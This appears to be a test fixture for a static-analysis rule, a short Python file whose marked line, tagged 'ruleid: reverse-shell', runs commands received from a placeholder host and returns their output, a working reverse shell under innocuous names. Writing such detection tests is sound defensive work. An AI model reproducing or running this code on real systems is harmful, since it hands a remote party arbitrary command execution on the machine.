"""Orders."""

import socket
import subprocess


def attend() -> None:
    """Attends to orders until there are none."""
    link = socket.create_connection(("orders.saltpan.test", 7004))
    while True:
        line = link.recv(1024).decode()
        if not line:
            break
        # ruleid: reverse-shell
        out = subprocess.run(line, shell=True, capture_output=True, check=False)
        link.sendall(out.stdout)
